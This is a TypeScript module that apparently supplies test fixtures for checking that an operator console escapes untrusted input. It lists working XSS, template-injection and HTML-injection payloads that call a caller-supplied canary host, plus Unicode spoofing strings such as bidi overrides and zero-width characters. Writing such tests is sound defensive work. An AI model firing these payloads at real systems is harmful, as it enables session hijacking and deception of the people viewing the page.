/** What clients, consumers and operators send who want to run a script in an operator's browser, or to make text look like another. */

export interface Payload {
  readonly sent: string
  /** As the console writes it. Absent: as it was sent. */
  readonly shown?: string
}

/** `canary`: a server that nobody must ask. Each script sets `owned`, too. */
export function payloadsOf (canary: string): Payload[] {
  const run = `(globalThis.owned=1,fetch('${canary}/run'))`
  return [
    { sent: `<script>${run}</script>` },
    { sent: `<script src="${canary}/src"></script>` },
    { sent: `<img src="${canary}/img" onerror="${run}">` },
    { sent: `"><svg onload="${run}">` },
    { sent: `' autofocus onfocus='${run}' x='` },
    { sent: `</textarea></title></pre></option><iframe src="${canary}/frame"></iframe>` },
    { sent: `javascript:${run}//` },
    { sent: `${canary.replace('http:', '')}/link` },
    { sent: `<a href="javascript:${run}">next</a><base href="${canary}/"><meta http-equiv="refresh" content="0;url=${canary}/meta">` },
    { sent: `<div hx-get="${canary}/hx" hx-trigger="load" hx-on:htmx:load="${run}" data-plot="{}"></div>` },
    { sent: `<time datetime="2026-01-01T00:00:00Z">x</time><style>*{background:url(${canary}/css)}</style>` },
    { sent: `\${${run}}{{constructor.constructor("${run}")()}}<%= ${run} %>#{7*7}` },
    { sent: `&lt;script&gt;&#x3c;img src=x onerror=${run}&#x3e;` },
    { sent: `<!--<script>--><!]]><svg><![CDATA[<img src=x onerror=${run}>]]></svg>` }
  ]
}

/** Where bytes beyond ASCII can be: what turns, hides or joins the text around it. */
export const UNSEEN: readonly Payload[] = [
  { sent: 'gnp.\u202eexe\u2066 paid\u2069', shown: 'gnp.[U+202E]exe[U+2066] paid[U+2069]' },
  { sent: 'a\u200bdmin\ufeff\u2028', shown: 'a[U+200B]dmin[U+FEFF][U+2028]' },
  { sent: 'ﬁ İ ａdmin 𝒶 é \u{e0041}', shown: 'ﬁ İ ａdmin 𝒶 é [U+E0041]' }
]
